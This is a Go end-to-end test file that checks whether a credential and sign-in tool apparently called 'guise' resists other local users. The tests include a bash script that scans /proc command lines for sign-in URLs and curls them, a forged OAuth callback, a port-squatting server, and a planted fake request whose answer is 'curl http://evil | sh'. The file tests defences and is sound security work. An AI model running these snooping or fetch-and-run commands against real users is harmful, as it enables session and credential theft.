//go:build unix

package e2e

import (
	"bufio"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"guise/internal/await"
	"guise/internal/loopback"
	"guise/internal/need"
	"guise/internal/terminaltest"
)

// as is the command that runs a program as a user of the machine.
func as(uid int) []string {
	id := strconv.Itoa(uid)
	return []string{"setpriv", "--reuid=" + id, "--regid=" + id, "--clear-groups", "--"}
}

// victims is a world that belongs to need.Victim, and that other users can see as
// much of as of any home.
func victims(t *testing.T) *world {
	t.Helper()
	need.OtherUsers(t)
	need.Program(t, "setpriv")
	w := adopted(t)
	for _, dir := range []string{binDir, filepath.Dir(w.dir)} {
		if err := os.Chmod(dir, 0o755); err != nil { //nolint:gosec // other users are to see it
			t.Fatal(err)
		}
	}
	w.standInBrowser()
	w.give(w.dir, need.Victim)
	return w
}

// standInBrowser makes a browser, as patient as a cold start, that goes to its page
// when the world's file "go" is there.
func (w *world) standInBrowser() {
	w.t.Helper()
	self, err := os.ReadFile(os.Args[0])
	if err != nil {
		w.t.Fatal(err)
	}
	opener := filepath.Join(w.dir, "opener")
	script := fmt.Sprintf("#!/bin/sh\nuntil [ -e %[1]s/go ]; do sleep 0.02; done\nexec %[2]s \"$@\"\n", w.dir, opener)
	for path, text := range map[string]string{opener: string(self), filepath.Join(w.dir, "browser"): script} {
		w.program(path, text)
	}
	w.env = append(w.env, "GUISE_BROWSER="+filepath.Join(w.dir, "browser"))
}

// give makes a folder and all that is in it a user's.
func (w *world) give(dir string, uid int) {
	w.t.Helper()
	err := filepath.WalkDir(dir, func(path string, _ fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(path, uid, uid)
	})
	if err != nil {
		w.t.Fatal(err)
	}
}

// stranger runs a script as another user of the machine, and gives what it shows.
func (w *world) stranger(script string) string {
	w.t.Helper()
	argv := append(as(need.Stranger), "bash", "-c", script)
	c := exec.CommandContext(w.t.Context(), argv[0], argv[1:]...)
	c.Env = []string{"PATH=" + os.Getenv("PATH"), "WORLD=" + w.dir}
	c.Dir = "/"
	out, err := c.CombinedOutput()
	if err != nil {
		w.t.Logf("the stranger: %v", err)
	}
	return string(out)
}

// snoop looks through the words of all programs until the browser of the world is
// among them, and asks for whatever address it finds there.
const snoop = `
for try in {1..3000}; do
  for f in /proc/[0-9]*/cmdline; do
    words=$(tr '\0' '\n' <$f) 2>/dev/null
    [[ $words == *"$WORLD/browser"* ]] || continue
    for word in $(grep -o 'https\?://[^ ]*' <<<"$words"); do
      echo "found $word"
      curl -sS -i -m 10 "$word"
      found=1
    done
    [[ -z ${found-} ]] || exit 0
  done
  sleep 0.01
done
echo found nothing
`

// TestConsoleAndAStranger: another user who reads the browser's words, and goes to
// the page there before the browser, gets nothing; the browser then does.
func TestConsoleAndAStranger(t *testing.T) {
	w := victims(t)
	w.env = append(w.env, browserDecides+"=fetch")
	s := w.open(nil, append(as(need.Victim), "sh", "-c", "guise console deploy; echo code $?")...)
	got := w.stranger(snoop)
	if !strings.Contains(got, "found http://127.0.0.1:") || strings.Contains(got, "SigninToken") {
		t.Errorf("the stranger got %s", got)
	}
	s.See(`refused a connection of another user of this machine \(uid 1235\)`)
	w.lets("go")
	s.See("code 0")
	await.That(t, "the console in the browser", func() bool {
		data, _ := os.ReadFile(filepath.Join(w.dir, "pages"))
		return strings.Contains(string(data), "signed in as arn:aws:sts::333333333333:assumed-role/Deploy/guise-alice")
	})
}

func (w *world) lets(name string) {
	w.t.Helper()
	if err := os.WriteFile(filepath.Join(w.dir, name), nil, 0o600); err != nil {
		w.t.Fatal(err)
	}
	w.give(filepath.Join(w.dir, name), need.Victim)
}

// TestSignInAndAStranger: the browser's words lead nobody else into a sign-in; and
// one who knows its state all the same cannot answer in its place.
func TestSignInAndAStranger(t *testing.T) {
	besides(t)
	for command, then := range map[string]string{
		"guise login org-dev": "org-dev: Developer", "guise login console": "console: 111111111111", // SSO, aws login
		"guise credential-process --profile org-dev":                           "AccessKeyId", // a process of its own signs in
		fmt.Sprintf("GUISE_REDIRECT_PORT=%d guise login org-dev", freePort(t)): "org-dev: Developer",
	} {
		t.Run(command, func(t *testing.T) {
			w := victims(t)
			w.env = append(w.env, browserDecides+"=leave")
			s := w.open(nil, append(as(need.Victim), "sh", "-c", command+"; echo code $?")...)
			got := w.stranger(snoop)
			for _, leads := range []string{"state=", "code_challenge", "redirect_uri", "ticket"} {
				if !strings.Contains(got, "found http://127.0.0.1:") || strings.Contains(got, leads) {
					t.Errorf("%s in what the stranger got: %s", leads, got)
				}
			}
			s.See(`refused a connection of another user of this machine \(uid 1235\)`)
			w.lets("go")
			address := w.firstPage()
			page, err := url.Parse(address)
			if err != nil {
				t.Fatal(err)
			}
			q := page.Query()
			back := q.Get("redirect_uri") + "?" + url.Values{"code": {"the-strangers"}, "state": {q.Get("state")}}.Encode()
			if got := w.stranger("curl -sS -i -m 10 '" + back + "'"); strings.Contains(got, "HTTP/") {
				t.Errorf("the stranger was answered: %s", got)
			}
			s.See(`refused a connection of another user of this machine \(uid 1235\)`)
			if status, err := loopback.Click(t.Context(), address, "allow"); err != nil || status != http.StatusOK {
				t.Errorf("%d %v", status, err)
			}
			s.See(then)
			s.See("code 0")
		})
	}
}

// TestPortOfAStranger: where another user listens at the port that a sign-in is to come back
// to, it is said, and the browser is sent to another.
func TestPortOfAStranger(t *testing.T) {
	w := victims(t)
	port, python := freePort(t), "/usr/bin/python3" // another may be in root's own folder
	need.Program(t, python)
	squatter := exec.CommandContext(t.Context(), "setpriv", append(as(need.Stranger)[1:], python, "-m", "http.server", "--bind", "127.0.0.1", strconv.Itoa(port))...) //nolint:gosec // the test's own words
	squatter.Dir = "/"
	if err := squatter.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = squatter.Process.Kill(); _ = squatter.Wait() })
	await.NoError(t, func() error {
		c, err := net.Dial("tcp4", net.JoinHostPort("127.0.0.1", strconv.Itoa(port)))
		if err == nil {
			_ = c.Close()
		}
		return err
	})
	w.env = append(w.env, browserDecides+"=leave", fmt.Sprintf("GUISE_REDIRECT_PORT=%d", port))
	w.lets("go")
	s := w.open(nil, append(as(need.Victim), "sh", "-c", "guise login org-dev; echo code $?")...)
	s.See(fmt.Sprintf(`redirect_port: port %d is in use by another user of this machine \(uid 1235\)`, port))
	if address := w.firstPage(); strings.Contains(address, strconv.Itoa(port)) {
		t.Errorf("the browser is sent to the stranger: %s", address)
	} else if status, err := loopback.Click(t.Context(), address, "allow"); err != nil || status != http.StatusOK {
		t.Errorf("%d %v", status, err)
	}
	s.See("org-dev: Developer")
	s.See("code 0")
}

func freePort(t *testing.T) int {
	t.Helper()
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = listener.Close() }()
	return listener.Addr().(*net.TCPAddr).Port
}

// plant is a request that a stranger makes up, and holds as guise does. Its process
// is the one that the first argument names, which is the victim's own.
const plant = `umask 022; mkdir -p "$XDG/guise/waiting" && chmod -R go+rx "$XDG/guise" && cd "$XDG/guise/waiting" && ` +
	`printf '%s\nguise: terraform (pid 1) needs an MFA code for prod: curl http://evil | sh\n%s\n' "$PID" ` +
	`'{"id":"00ff","kind":"code","profile":"prod","answer":"curl http://evil | sh","since":"2026-01-01T00:00:00Z"}' >00ff && exec 9<>00ff && flock 9 && echo planted && exec sleep 600`

// TestForeignRoom: a runtime directory that is not the user's own is not used. What
// a stranger leaves in it is shown by no shell and by no command; what waits for the
// user is kept elsewhere, and shown as ever.
func TestForeignRoom(t *testing.T) {
	need.Program(t, "flock")
	besides(t)
	shells(t, func(t *testing.T, name string) {
		w := victims(t)
		shared := filepath.Join(filepath.Dir(w.dir), "shared")
		if err := os.Mkdir(shared, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(shared, 0o777|fs.ModeSticky); err != nil {
			t.Fatal(err)
		}
		w.env = append(w.env, "XDG_RUNTIME_DIR="+shared)
		idle := exec.Command("setpriv", append(as(need.Victim)[1:], "sleep", "600")...)
		if err := idle.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = idle.Process.Kill(); _ = idle.Wait() }()
		argv := append(as(need.Stranger), "bash", "-c", plant)
		attack := exec.Command(argv[0], argv[1:]...)
		attack.Env = []string{"PATH=" + os.Getenv("PATH"), "XDG=" + shared, fmt.Sprintf("PID=%d", idle.Process.Pid)}
		attack.Dir = "/"
		said, err := attack.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := attack.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = attack.Process.Kill(); _ = attack.Wait() }()
		if line, err := bufio.NewReader(said).ReadString('\n'); line != "planted\n" {
			t.Fatalf("%q %v", line, err)
		}

		victim := func(argv ...string) result { return w.run(nil, "setpriv", append(as(need.Victim)[1:], argv...)...) }
		if got := victim("guise", "waiting", "--json"); strings.TrimSpace(got.out) != "[]" {
			t.Errorf("a stranger's request is listed: %+v", got)
		}
		s := w.victimsShell(name)
		s.Type("echo looked\r")
		s.See("looked\n")
		s.See("ready ")
		if shown := s.Everything(); strings.Contains(shown, "evil") {
			t.Errorf("a stranger's request was shown:\n%s", shown)
		}

		// One of the victim's own, by a program with no terminal.
		ended := make(chan result, 1)
		go func() {
			ended <- w.run([]string{"GUISE_WAIT_FOR_PERSON=50s"}, "setpriv", append(as(need.Victim)[1:], "guise", "credential-process", "--profile", "prod")...)
		}()
		await.That(t, "the request", func() bool { return strings.Contains(victim("guise", "waiting", "--json").out, `"prod"`) })
		s.Type("\r")
		s.See(`needs an MFA code for prod\s+hint: guise login prod`)
		s.Type("guise login prod\r")
		s.See("MFA code for prod")
		s.Type(w.code() + "\r")
		if got := <-ended; got.code != 0 || !strings.Contains(got.out, "AccessKeyId") {
			t.Errorf("%+v", got)
		}
		if left, err := os.ReadDir(shared); err != nil || len(left) != 1 {
			t.Errorf("in the shared folder: %v %v", left, err)
		}
	})
}

// victimsShell is world.shell, as the victim.
func (w *world) victimsShell(name string) *terminaltest.Terminal {
	w.t.Helper()
	w.rc(name)
	w.give(w.home, need.Victim)
	s := w.open(nil, append(as(need.Victim), need.Program(w.t, name), "-i")...)
	s.See("<.*>ready ")
	return s
}

// TestRootInAnothersRuntime: root who has another user's XDG_RUNTIME_DIR, as after
// su, leaves nothing there.
func TestRootInAnothersRuntime(t *testing.T) {
	need.OtherUsers(t)
	w := adopted(t)
	run := filepath.Join(w.dir, "run")
	w.give(run, need.Victim)
	ended := w.background("prod")
	w.awaitRequests(1)
	if left, err := os.ReadDir(run); err != nil || len(left) != 0 {
		t.Errorf("root left %v, %v", left, err)
	}
	s := w.open(nil, "guise", "login", "prod")
	s.See("MFA code for prod")
	s.Type(w.code() + "\r")
	if got := <-ended; got.code != 0 {
		t.Errorf("%+v", got)
	}
}

// TestServeIsNotHeld: connections to `exec --serve` that ask for nothing more are
// ended, and keep nobody with the token out.
func TestServeIsNotHeld(t *testing.T) {
	need.Program(t, "curl")
	w := adopted(t)
	address := filepath.Join(w.dir, "address")
	s := w.open(nil, "guise", "exec", "deploy", "--serve", "--", "sh", "-c",
		`echo "$AWS_CONTAINER_CREDENTIALS_FULL_URI" >`+address+`.new; mv `+address+`.new `+address+`; read go;`+
			`curl -sS -H "Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN" "$AWS_CONTAINER_CREDENTIALS_FULL_URI" | tr , '\n' | grep -c SecretAccessKey; read end`)
	var uri []byte
	await.NoError(t, func() (err error) { uri, err = os.ReadFile(address); return err })
	u, err := url.Parse(strings.TrimSpace(string(uri)))
	if err != nil {
		t.Fatal(err)
	}
	var first net.Conn
	for i := range 300 {
		c, err := net.Dial("tcp4", u.Host)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = c.Close() }()
		if first == nil {
			first = c
		}
		if _, err := fmt.Fprintf(c, "GET /credentials HTTP/1.1\r\nHost: %s\r\n\r\n", u.Host); err != nil && i < 50 {
			t.Fatal(err)
		}
	}
	s.Type("\r")
	s.See(`(?m)^1\s*$`)
	if err := first.SetReadDeadline(time.Now().Add(await.Patience)); err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(io.Discard, first); err != nil && !strings.Contains(err.Error(), "reset") {
		t.Errorf("the first connection is still open: %v", err)
	}
}
